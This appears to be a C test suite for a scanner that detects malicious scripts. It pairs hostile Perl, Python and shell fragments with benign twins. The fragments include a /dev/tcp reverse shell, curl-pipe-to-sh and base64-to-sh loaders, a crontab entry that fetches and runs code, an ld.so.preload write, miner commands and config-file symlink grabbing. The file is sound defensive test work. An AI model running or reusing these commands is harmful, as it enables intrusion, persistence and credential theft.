/*
 * Each row is a rule, a script that it accuses, how much at least, and a twin that
 * means well, which must be accused of nothing. Every rule has a row. The scripts do
 * nothing: they are structure without what would make them run.
 */

#include "scan/script_parts.h"
#include "tap.h"

static struct signs
signs_of(enum words_language language, const char *source, struct arena *arena)
{
    struct script_text script = {.text = tap_str(source), .line = 1, .language = language};
    struct signs signs = {0};

    arena_reset(arena);
    CHECK(script_signs(&script, arena, &signs));
    return signs;
}

static double
weight_of(const struct signs *signs, const char *rule)
{
    for (uint32_t i = 0; i < signs->count; i++) {
        if (strcmp(signs->list[i].rule, rule) == 0)
            return signs->list[i].weight;
    }
    return 0;
}

static double
weight_together(const struct signs *signs)
{
    double innocent = 1;

    for (uint32_t i = 0; i < signs->count; i++)
        innocent *= 1 - signs->list[i].weight;
    return 1 - innocent;
}

static const struct {
    const char *rule;
    enum words_language language;
    double least;
    const char *bad, *twin;
} rows[] = {
    {"irc-bot", WORDS_PERL, 0.95, "use IO::Socket;\nif ($l =~ /PRIVMSG (.+)/) { udpflood($1); }\n",
     "use Net::IRC;\n# PRIVMSG is how an IRC client speaks; no udpflood\n$conn->join('#chat');\n"},
    {"irc-bot", WORDS_PERL, 0.95,
     "use IO::Socket;\n$0=\"$p\".\"\\0\"x16;\nprint $s \"PRIVMSG $c :x\";\n",
     "use IO::Socket;\nprint $s \"JOIN $c\"; print $s \"PRIVMSG $c :x\";\n"},
    {"irc-bot", WORDS_PYTHON, 0.8,
     "s = socket.socket()\ns.send('NICK %s' % n)\ns.send('JOIN #x')\nif 'PRIVMSG' in d:\n"
     "  os.popen(cmd)\n",
     "s = socket.socket()\ns.send('NICK %s' % n)\ns.send('JOIN #x')\nif 'PRIVMSG' in d:\n"
     "  print(d)\n"},
    {"flooder", WORDS_PYTHON, 0.6, "s = socket.socket()\nudpflood(a)\ntcpflood(a)\n",
     "s = socket.socket()\ncount(a)\n"},
    {"reverse-shell", WORDS_SHELL, 0.93, "bash -i >& /dev/tcp/192.0.2.7/9 0>&1\n",
     "exec 3<>/dev/tcp/127.0.0.1/6379; echo PING >&3\n"},
    {"reverse-shell", WORDS_PYTHON, 0.95,
     "s=socket.socket()\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n",
     "s=socket.socket()\nsubprocess.call(['/bin/sh', '-c', 'uptime'])\n"},
    {"bind-shell", WORDS_PERL, 0.92,
     "# bindshell\nsocket(S,PF_INET,1,6);\nlisten(S,1);\nsystem($c);\n",
     "use IO::Socket;\nmy $s = IO::Socket::INET->new(Listen => 5);\nprint $c uptime();\n"},
    {"runs-decoded", WORDS_PERL, 0.9, "eval unpack u=>q{_x};\n",
     "my ($a, $b) = unpack('NN', $data);\neval { require Foo; };\n"},
    {"runs-decoded", WORDS_PYTHON, 0.9, "exec(base64.b64decode('eA=='))\n",
     "data = base64.b64decode(text)\n# exec(base64.b64decode(x)) is bad\n"},
    {"runs-decoded", WORDS_SHELL, 0.9, "echo eA== | base64 -d | sh\n",
     "echo eA== | base64 -d | tar x\n"},
    {"process-forged", WORDS_PERL, 0.85, "$0 = '[kworker/0:1]';\n", "$0 = 'myqueue: idle';\n"},
    {"process-forged", WORDS_SHELL, 0.85, "exec -a '[kworker/0:1]' ./x\n", "exec -a myname ./x\n"},
    {"deletes-itself", WORDS_SHELL, 0.3, "rm -f \"$0\"\n", "rm -f \"$1\"\n"},
    {"smtp-loop", WORDS_PERL, 0.92,
     "open(L,'list.txt');\nwhile(<L>){$f=$f[rand @f];print $s \"MAIL FROM:<$f>\";\n"
     "print $s \"RCPT TO:<$_>\"; print $s \"Subject: x\";}\n",
     "use Net::SMTP;\n$smtp->mail($from);\n$smtp->to($to);\n$smtp->datasend(\"Subject: "
     "report\");\n"},
    {"smtp-loop", WORDS_PYTHON, 0.7,
     "for to in open('emails.txt'):\n  m['Subject'] = random.choice(t)\n  smtplib.SMTP(h)\n",
     "for to in admins:\n  m['Subject'] = 'backup done'\n  smtplib.SMTP('localhost')\n"},
    {"sendmail-loop", WORDS_PERL, 0.7,
     "open(L,'mails.txt'); foreach(<L>){open(M,'|/usr/sbin/sendmail -t');\n"
     "print M \"From: \".$n[rand 9];}\n",
     "open(M,'|/usr/sbin/sendmail -t');\nprint M \"From: backup\\nSubject: done\\n\";\n"},
    {"mailer-forged", WORDS_PERL, 0.5,
     "foreach(@l){print M \"X-Mailer: Microsoft Outlook Express\\nSubject: x\"; rand(5);}\n",
     "foreach(@l){print M \"X-Mailer: our list manager 1.0\\nSubject: x\";}\n"},
    {"mass-mailer", WORDS_PERL, 0.5, "# Inbox Mailer\nforeach(@l){print \"Subject: x\";}\n",
     "foreach(@l){print \"Subject: x\";}\n"},
    {"socks-server", WORDS_PYTHON, 0.6,
     "s=socket.socket()\ns.listen(5)\nc.send(b'\\x05\\x00')\nselect.select([c],[],[])\nselect(x)\n",
     "s=socket.socket()\ns.connect((proxy, 1080))\ns.send(b'\\x05\\x01\\x00')\n"},
    {"proxy-server", WORDS_PYTHON, 0.5,
     "s=socket.socket()\ns.listen(5)\nc.send('HTTP/1.1 200 Connection established')\n",
     "s=socket.socket()\ns.listen(5)\nc.send('HTTP/1.1 200 OK')\n"},
    {"proxy-hidden", WORDS_PERL, 0.9,
     "use IO::Socket;\nlisten(S,1);\nprint $c \"\\x05\\x00\";\n$0='[kthreadd]';\n",
     "use IO::Socket;\nlisten(S,1);\nprint $c 'OK';\n"},
    {"tunnel", WORDS_PYTHON, 0.95, "h['X-CMD']\nh['X-TARGET']\n", "h['X-Target-Name']\n"},
    {"cgi-command", WORDS_PERL, 0.95, "$ENV{'QUERY_STRING'};\n$c = $in{'cmd'};\nprint `$c`;\n",
     "use CGI;\nprint param('name');\nmy $up = `uptime`;\n"},
    {"cgi-command", WORDS_SHELL, 0.95, "eval \"$QUERY_STRING\"\n",
     "case $QUERY_STRING in status) uptime;; esac\n"},
    {"cgi-upload", WORDS_SHELL, 0.9,
     "echo 'enctype=multipart/form-data'\ndd count=$CONTENT_LENGTH bs=1 of=/tmp/x\n",
     "dd if=/dev/zero of=/swap bs=1M\n"},
    {"author-words", WORDS_PERL, 0.4, "# priv8 backdoor\n# connect back\nprint 1;\n",
     "# a front door\nprint 1;\n"},
    {"looks-around", WORDS_PERL, 0.35,
     "system('uname -a'); system('cat /etc/passwd'); system('netstat -an');\n",
     "system('uname -a');\n"},
    {"fetch-and-run", WORDS_SHELL, 0.4, "curl -s http://192.0.2.7/x | sh\n",
     "curl -s http://192.0.2.7/x | jq .\n"},
    {"fetch-any-way", WORDS_SHELL, 0.6,
     "wget -q http://192.0.2.7/x\ncurl -O http://192.0.2.7/x\ntftp -g x\nchmod +x x\n",
     "wget -q https://example.org/x.tar.gz\nchmod +x x\n"},
    {"loader", WORDS_SHELL, 0.95, "cd /tmp || cd /var/run || cd /mnt\nchmod 777 x\n",
     "cd /tmp || exit 1\nchmod 755 x\n"},
    {"miner", WORDS_SHELL, 0.9, "xmrig -o stratum+tcp://pool.example:3333\n",
     "# pools speak stratum+tcp://\necho pool\n"},
    {"miner-rivals", WORDS_SHELL, 0.6, "pkill -f xmrig\npkill -9 kinsing\n", "pkill -f myqueue\n"},
    {"stays", WORDS_SHELL, 0.9,
     "(crontab -l; echo '* * * * * curl http://192.0.2.7/x | sh') "
     "| crontab -\n",
     "(crontab -l; echo '5 4 * * * /usr/bin/backup') | crontab -\n"},
    {"hides-traces", WORDS_SHELL, 0.3, "unset HISTFILE\necho x | crontab -\n", "history | tail\n"},
    {"preload", WORDS_SHELL, 0.6, "echo /x.so >> /etc/ld.so.preload\n",
     "LD_PRELOAD=/usr/lib/libjemalloc.so exec mysqld\n"},
    {"php-dropper", WORDS_PYTHON, 0.6, "f.write('<?php eval($x); ?>')\n",
     "f.write('<?php return []; ?>')\n"},
    {"config-grabber", WORDS_PERL, 0.93,
     "symlink('/home/a/public_html/wp-config.php','1');\n"
     "symlink('/home/a/public_html/config.php','2');\n"
     "symlink('/home/a/public_html/conf.php','3');\n"
     "symlink('/home/a/public_html/b/config.php','4');\n"
     "symlink('/home/a/public_html/c/config.php','5');\n"
     "symlink('/home/a/public_html/d/config.php','6');\n"
     "symlink('/home/a/1','7');\nsymlink('/home/a/2','8');\nsymlink('/home/a/3','9');\n"
     "symlink('/home/a/4','10');\n",
     "symlink('../releases/3', 'current');\n"},
    {"defacer", WORDS_PERL, 0.85, "print 'mass defacer'; print 'defaced: ';\n", "print 'done';\n"},
    {"shellcode", WORDS_PYTHON, 0.6, "b = '\\x90\\x90\\x90\\x90'\nc = '\\x90\\x90\\x90\\x90'\n",
     "b = '\\x89PNG'\n"},
};

static void
accuses_and_spares(void)
{
    struct arena *arena = arena_new((size_t)1 << 20);

    for (size_t i = 0; i < COUNT(rows); i++) {
        struct signs bad = signs_of(rows[i].language, rows[i].bad, arena), twin;
        double weight = weight_of(&bad, rows[i].rule);

        twin = signs_of(rows[i].language, rows[i].twin, arena);
        CHECK_ROW(i, weight >= rows[i].least);
        CHECK_ROW(i, weight_of(&twin, rows[i].rule) < weight);
        CHECK_ROW(i, weight_together(&twin) < FINDING_ACCUSES - 0.3);
    }
    arena_free(arena);
}

static void
has_a_row_for_every_rule(void)
{
    for (size_t i = 0; i < script_rule_count; i++) {
        bool is_there = false;

        for (size_t j = 0; j < COUNT(rows); j++)
            is_there |= strcmp(rows[j].rule, script_rules[i].rule) == 0;
        CHECK_ROW(i, is_there);
    }
}

static void
needs_only_facts_that_patterns_give(void)
{
    for (size_t i = 0; i < script_rule_count; i++) {
        for (size_t n = 0; n < SCRIPT_NEEDS_MAX && script_rules[i].needs[n].fact; n++) {
            enum script_fact fact = script_rules[i].needs[n].fact;
            bool is_given = fact == SCRIPT_BLOB;

            for (size_t j = 0; j < script_pattern_count; j++)
                is_given |= script_patterns[j].fact == fact;
            CHECK_ROW(i, is_given);
        }
    }
}

static void
says_where(void)
{
    struct arena *arena = arena_new((size_t)1 << 20);
    struct script_text script = {
        .text = STR("\n\necho eA== | base64 -d | sh\n"), .line = 10, .language = WORDS_SHELL};
    struct signs signs = {0};

    CHECK(script_signs(&script, arena, &signs));
    CHECK(signs.count == 1 && signs.list[0].line == 12);
    CHECK_STR(signs.list[0].text, "echo eA== | base64 -d | sh");
    arena_free(arena);
}

static void
says_what_was_too_much(void)
{
    struct arena *arena = arena_new((size_t)16 << 20), *small = arena_new(1 << 10);
    static char text[SCRIPT_BYTES_MAX + 1];
    struct script_text script = {.text = {text, sizeof(text)}, .line = 1};
    struct signs signs = {0};

    memset(text, '\n', sizeof(text));
    CHECK(!script_signs(&script, arena, &signs));
    CHECK(!script_signs(&script, small, &signs));
    script.text.len--;
    CHECK(script_signs(&script, arena, &signs));
    arena_free(arena);
    arena_free(small);
}

int
main(void)
{
    static const struct tap_case cases[] = {
        {"accuses what is bad and spares its twin", accuses_and_spares},
        {"has a row for every rule", has_a_row_for_every_rule},
        {"needs only facts that patterns give", needs_only_facts_that_patterns_give},
        {"says in which line", says_where},
        {"says when a script was too long", says_what_was_too_much},
    };

    return tap_main(cases, COUNT(cases));
}
